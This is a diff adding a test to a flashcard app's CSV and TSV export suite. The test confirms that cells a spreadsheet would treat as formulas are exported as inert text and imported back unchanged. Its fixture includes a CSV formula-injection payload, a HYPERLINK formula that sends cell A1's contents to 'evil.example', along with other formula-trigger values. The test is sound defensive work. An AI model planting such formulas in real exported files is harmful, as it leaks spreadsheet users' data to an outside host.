@@ -286,6 +286,33 @@ describe('CSV and TSV', () => {
     }
   });
 
+  it('exports cells a spreadsheet would run as formulas as text, and imports them back as they were', async () => {
+    const FORMULAS = [
+      { front: '=HYPERLINK("https://evil.example/?"&A1,"Click")', back: '+1+1' },
+      { front: '-2+3', back: '@SUM(A1:A2)' },
+      { front: '\t=1+1', back: '\r=1+1' },
+      { front: "'=kept as written", back: 'Plain' },
+    ];
+    const source = (await owner.client.post('/api/flashcards/decks', { name: 'Formulas', cards: FORMULAS })).body;
+    await owner.client.patch(`/api/flashcards/decks/${source.id}`, { isPublic: true });
+    for (const format of ['csv', 'tsv'] as const) {
+      const res = await fetch(`${h.baseUrl}/api/flashcards/decks/${source.slug}/export?format=${format}`);
+      expect(res.status).toBe(200);
+      const text = await res.text();
+      // Every cell as a spreadsheet reads it (quotes unwrapped): none starts a formula.
+      const cells = text.split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/).filter(Boolean).flatMap((line) => line.split(format === 'csv' ? /,(?=(?:[^"]*"[^"]*")*[^"]*$)/ : /\t(?=(?:[^"]*"[^"]*")*[^"]*$)/));
+      const values = cells.map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell));
+      expect(values).toHaveLength(8);
+      for (const value of values) expect(value, format).not.toMatch(/^[=+\-@\t\r]/);
+      expect(values[0]).toBe(`'${FORMULAS[0]!.front}`);
+      const target = (await owner.client.post('/api/flashcards/decks', { name: `Formulas back ${format}` })).body;
+      const imported = await owner.client.post(`/api/flashcards/decks/${target.id}/import`, { text, format });
+      expect(imported.body.deck.cards.map((c: any) => ({ front: c.front, back: c.back }))).toEqual(
+        FORMULAS.map((c) => ({ front: c.front.trim(), back: c.back.trim() })),
+      );
+    }
+  });
+
   it('reads a header line and Anki’s comment lines, and refuses a file with no cards', async () => {
     const target = (await owner.client.post('/api/flashcards/decks', { name: 'From Anki' })).body;
     const text = '#separator:tab\n#html:false\nfront\tback\nmitosis\ttwo identical nuclei\r\nmeiosis\tfour gametes\n';
